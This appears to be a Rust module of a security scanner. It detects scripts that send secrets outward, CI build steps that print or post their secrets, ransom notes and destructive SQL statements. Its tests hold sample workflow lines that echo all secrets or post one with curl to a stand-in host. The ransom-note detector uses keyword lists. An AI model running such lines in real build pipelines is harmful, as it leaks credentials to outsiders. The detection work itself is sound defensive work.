//! What a text that is written would do: as a script, where programs start from, as the steps of a
//! build, as a note that is left behind.

use super::Facts;
use crate::action::{Action, Actions, flag};
use crate::lexicon::Lexicon;
use crate::print::Printer;
use crate::shell;

/// Longest text of a file that is looked at as a script.
const MAX_SCRIPT: usize = 32 * 1024;
/// Longest note that is left for somebody, in bytes. Chosen.
const MAX_NOTE: usize = 2048;
/// Words of a line that show what is in it.
const SHOWS: [&str; 6] = [
    "echo ",
    "printf ",
    "print(",
    "console.log(",
    "tee ",
    "write-host ",
];
/// Words of a line that keep what is in it.
const KEEPS: [&str; 7] = ["login", "stdin", ">>", "> ", "add-mask", "auth", "-h "];
/// What is asked for, and what is promised.
const MONEY: [&str; 7] = [
    "btc", "bitcoin", "monero", "xmr", "ransom", "ethereum", "usdt",
];
const PROMISE: [&str; 8] = [
    "recover",
    "restore",
    "decrypt",
    "get back",
    "get your data",
    "your files",
    "your data",
    "backed up",
];

impl Facts {
    /// Notes what a text that is written would do if it were run.
    pub(super) fn script(&mut self, text: &str, lexicon: &Lexicon, printer: &Printer) {
        if text.len() > MAX_SCRIPT || !text.contains(['.', '~', '$']) {
            return;
        }
        let mut inner = Self::default();
        let commands = shell::commands(text);
        inner.commands(&commands, lexicon, printer);
        inner.code(text, lexicon);
        inner.addresses(text, lexicon, printer);
        let out = inner.actions.has(Action::Send) && inner.flags & flag::OUTSIDE != 0;
        if out && inner.actions.has(Action::ReadSecret) || shows_build_secrets(text) {
            self.flags |= flag::LOADED;
        }
        // Units, settings and crontabs quote the command that they start.
        let words = commands.iter().flat_map(|command| &command.words);
        for line in words.filter(|word| word.contains(' ')) {
            inner.commands(
                &shell::commands(line.trim_matches(['"', '[', ']', ','])),
                lexicon,
                printer,
            );
        }
        let starts = [Action::RunUnseen, Action::RemoteShell];
        let starts: Actions = starts.into_iter().collect();
        self.started = self.started.union(Actions(inner.actions.0 & starts.0));
        if inner.actions.has(Action::Send) && inner.flags & flag::OUTSIDE != 0 {
            self.started.add(Action::Send);
        }
    }

    /// A note that asks for money and promises to give something back.
    pub(super) fn note(&mut self, text: &str) {
        let digit = |byte: u8| byte.is_ascii_digit();
        if !(24..=MAX_NOTE).contains(&text.len()) || !text.bytes().any(digit) {
            return;
        }
        let lower = text.to_ascii_lowercase();
        let holds = |words: &[&str]| words.iter().any(|word| lower.contains(word));
        if holds(&MONEY) && holds(&PROMISE) {
            self.flags |= flag::DEMANDS;
        }
    }

    /// What a statement in the language of databases does.
    pub(super) fn statement(&mut self, text: &str) {
        let lower = text.trim_start().get(..text.trim_start().len().min(400));
        let lower = lower.unwrap_or_default().to_ascii_lowercase();
        let mut words = lower.split_whitespace();
        let first = words.next().unwrap_or_default();
        let second = words.next().unwrap_or_default();
        let who = ["user", "role", "login"].contains(&second);
        let known = [
            "select", "insert", "update", "delete", "drop", "truncate", "grant", "create", "alter",
            "replace", "with", "show",
        ];
        // A statement is no command line.
        if known.contains(&first) {
            self.actions.0 &= !Action::Shell.bit().0;
        }
        match first {
            "drop" if who => self.actions.add(Action::Account),
            "drop" | "truncate" => {
                self.actions.add(Action::Delete);
                self.flags |= flag::MASS;
            }
            "delete" => self.actions.add(Action::Delete),
            "grant" => self.actions.add(Action::Permission),
            "create" | "alter" if who => {
                self.actions.add(Action::Account);
                self.actions.add(Action::Permission);
            }
            "insert" | "update" | "create" | "alter" | "replace" => self.actions.add(Action::Write),
            _ => {}
        }
    }
}

/// Whether the steps of a build show the secrets that the build is lent.
fn shows_build_secrets(text: &str) -> bool {
    if !text.contains("${{") {
        return false;
    }
    let lower = text.to_ascii_lowercase();
    if lower.contains("tojson(secrets") {
        return true;
    }
    // `TOKEN: ${{ secrets.TOKEN }}` gives it another name.
    let named = lower.lines().filter_map(|line| {
        let (name, value) = line.split_once(':')?;
        let name = name.trim_matches([' ', '-', '"', '\'']);
        let plain = |char: char| char.is_ascii_alphanumeric() || char == '_';
        (value.contains("secrets.") && name.len() > 2 && name.chars().all(plain)).then_some(name)
    });
    let named: Vec<&str> = named.collect();
    lower.lines().any(|line| {
        let lent = line.contains("secrets.") && line.contains("${{")
            || named.iter().any(|name| {
                line.contains(&format!("${name}")) || line.contains(&format!("${{{name}}}"))
            });
        let shows = SHOWS.iter().any(|word| line.contains(word));
        let kept = KEEPS.iter().any(|word| line.contains(word));
        let posts = line.contains("curl ")
            && [" -d", "--data", " -f ", "?"]
                .iter()
                .any(|option| line.contains(option));
        lent && (shows && !kept || posts && !line.contains("authorization"))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_build_that_prints_its_secrets_is_told_from_one_that_uses_them() {
        for (text, shows) in [
            ("run: echo ${{ secrets.KEY }} | rev", true),
            (
                "env:\n  KEY: ${{ secrets.KEY }}\nrun: |\n  printf '%s' \"$KEY\" | base64",
                true,
            ),
            ("run: echo '${{ toJSON(secrets) }}'", true),
            ("run: curl -d k=${{ secrets.KEY }} https://a.example", true),
            (
                "run: echo ${{ secrets.PW }} | docker login -u x --password-stdin",
                false,
            ),
            ("env:\n  KEY: ${{ secrets.KEY }}\nrun: make publish", false),
            ("run: echo ${{ github.sha }}", false),
        ] {
            assert_eq!(shows_build_secrets(text), shows, "{text}");
        }
    }
}
